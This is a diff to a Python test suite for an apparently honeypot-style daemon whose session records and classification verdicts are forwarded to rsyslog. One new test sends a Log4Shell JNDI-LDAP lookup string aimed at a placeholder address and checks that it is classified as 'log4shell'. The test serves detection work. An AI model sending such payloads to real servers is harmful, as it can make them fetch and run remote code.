@@ -97,8 +97,9 @@ class Rsyslog:
             self.log.close()
         self.proc = None
 
-    def messages(self):
-        """What rsyslog parsed: one dict a message, the SD params unescaped."""
+    def messages(self, msgid="session"):
+        """What rsyslog parsed of the messages of msgid (None: all): one
+        dict a message, the SD params unescaped."""
         if not self.out.exists():
             return []
         got = []
@@ -108,7 +109,7 @@ class Rsyslog:
             got.append({"input": f[0], "pri": int(f[1]), "host": f[2], "app": f[3],
                         "procid": f[4], "msgid": f[5], "sd": f[6], "params": sd_params(f[6]),
                         "msg": f[7]})
-        return got
+        return [m for m in got if msgid is None or m["msgid"] == msgid]
 
 
 def sd_params(sd):
@@ -186,6 +187,8 @@ def test_every_session_arrives_once_with_its_fields(daemons, rsyslog, tmp_path, 
     time.sleep(0.3)
     msgs = r.messages()
     assert len(msgs) == 5, msgs          # nothing injected, nothing doubled
+    # the rules found nothing in these: no verdict messages either
+    assert len(r.messages(None)) == 5, r.messages(None)
     by_id = {m["params"]["session"]: m for m in msgs}
     assert sorted(by_id) == sorted(row["session"] for row in rows)
     for row in rows:
@@ -345,3 +348,23 @@ def test_inetd_child_sends_its_session_confined(rsyslog, tmp_path):
     msgs = wait_for(lambda: r.messages() or None, what="the inetd child's message")
     assert [m["params"]["session"] for m in msgs] == [query(db, "SELECT session FROM sessions")[0][0]]
     assert msgs[0]["params"]["sha256"] == query(db, "SELECT payload_sha256 FROM sessions")[0][0]
+
+
+def test_a_verdict_that_names_a_family_comes_as_its_own_message(daemons, rsyslog, tmp_path):
+    """Sessions are classified after they are written: the verdict follows
+    as MSGID classified (only when it names a family or tags)."""
+    r, d = start_pair(daemons, rsyslog, tmp_path, "tcp")
+    send_and_close(d.port, b"GET / HTTP/1.1\r\nX-Api-Version: ${JNDI:ldap://192.0.2.1/a}\r\n\r\n")
+    row = d.wait_sessions(1)[0]
+    wait_for(lambda: query(d.db, "SELECT family FROM sessions")[0][0], what="the verdict")
+    send_and_close(d.port, b"GET /kick HTTP/1.0\r\n\r\n")     # a batch after it
+    d.wait_sessions(2)
+    verdicts = wait_for(lambda: r.messages("classified") or None, what="the verdict's message")
+    assert d.stop() == 0
+    assert len(verdicts) == 1, verdicts
+    p = verdicts[0]["params"]
+    assert (p["session"], p["sha256"], p["class_state"]) == (
+        row["session"], row["payload_sha256"], "done")
+    assert p["family"] == query(d.db, "SELECT family FROM sessions WHERE session = ?",
+                                (row["session"],))[0][0] == "log4shell"
+    assert len(r.messages()) == 2
